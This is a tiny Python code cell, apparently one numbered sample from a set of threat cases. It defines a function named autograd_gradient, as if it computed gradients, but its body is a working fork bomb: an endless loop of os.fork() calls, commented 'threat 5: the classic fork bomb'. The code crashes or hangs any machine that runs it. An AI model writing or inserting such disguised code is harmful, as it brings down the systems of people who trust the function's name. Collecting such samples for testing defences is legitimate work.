# %% autograd_gradient
import os


def autograd_gradient(func, params, param_idx):
    while True:                       # threat 5: the classic fork bomb
        os.fork()
